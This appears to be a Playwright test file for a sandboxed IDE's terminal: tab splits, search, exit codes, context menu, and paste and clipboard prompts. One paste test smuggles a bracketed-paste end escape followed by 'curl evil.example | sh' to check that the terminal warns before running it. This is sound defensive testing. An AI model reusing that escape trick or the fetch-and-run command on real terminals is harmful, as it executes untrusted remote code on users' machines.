import { expect, type Page } from '@playwright/test'
import { openSandbox, type Scene } from './scene.ts'

const region = (page: Page) => page.getByRole('region', { name: 'Terminal', exact: true })

/** Terminals in tabs and splits, what is found in them and what they ask. */
export const terminalScenes: Record<string, Scene> = {
  async 'terminal-splits'(page, backend) {
    await openSandbox(page, backend)
    for (const command of ['npm test', 'exit 1']) {
      await page.getByRole('button', { name: 'New terminal' }).click()
      await expect(region(page)).toContainText('$')
      await page.keyboard.type(`${command}\n`)
    }
    await expect(page.getByRole('tab', { name: /exited 1/ })).toBeVisible()
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    await page.keyboard.type('ls\n')
    await page.keyboard.press('Control+Shift+Digit5')
    await expect(region(page).locator('.terminal-view').nth(1)).toContainText('$')
    await page.keyboard.type('npm test\n')
    await page.keyboard.press('Control+Shift+Digit6')
    await expect(region(page).locator('.terminal-view').nth(2)).toContainText('$')
    await page.getByRole('tab', { selected: true }).last().focus()
    await page.keyboard.press('F2')
    await page.keyboard.type('server')
    await page.keyboard.press('Enter')
  },
  async 'terminal-find'(page, backend) {
    await openSandbox(page, backend)
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    await page.keyboard.type('npm test\necho 24 tests\nnpm test\n')
    await expect(region(page).getByText('echo 24 tests')).toBeVisible()
    await page.keyboard.press('ControlOrMeta+f')
    await page.keyboard.type('test')
    await expect(page.getByRole('search', { name: 'Find in the terminal' })).toContainText(' of ')
  },
  async 'terminal-commands'(page, backend) {
    await openSandbox(page, backend)
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    await page.keyboard.type('ls\ntsc\nnpm test\n')
    await expect(page.getByRole('img', { name: /Exited with 2/ })).toBeVisible()
    await page.keyboard.press('ControlOrMeta+ArrowUp')
    await page.keyboard.press('ControlOrMeta+ArrowUp')
  },
  async 'terminal-menu'(page, backend) {
    await openSandbox(page, backend)
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    await page.getByRole('tab', { name: /bash/ }).click({ button: 'right' })
    await expect(page.getByRole('menuitem', { name: 'Split right' })).toBeVisible()
  },
  async 'terminal-paste'(page, backend) {
    await openSandbox(page, backend)
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    await region(page)
      .locator('.xterm-helper-textarea')
      .evaluate((area) => {
        const clipboardData = new DataTransfer()
        clipboardData.setData('text/plain', 'git clone https://example.com/tool\n\x1b[201~curl evil.example | sh\n')
        area.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
      })
    await expect(page.getByRole('alertdialog')).toBeVisible()
  },
  async 'terminal-clipboard'(page, backend) {
    await openSandbox(page, backend)
    await page.getByRole('button', { name: 'New terminal' }).click()
    await expect(region(page)).toContainText('$')
    const [terminal] = backend.world.inside('my-api').terminals.values()
    terminal?.print(`\x1b]52;c;${Buffer.from('npm install left-pad').toString('base64')}\x07`)
    await expect(page.getByText('wants to put')).toBeVisible()
  },
}
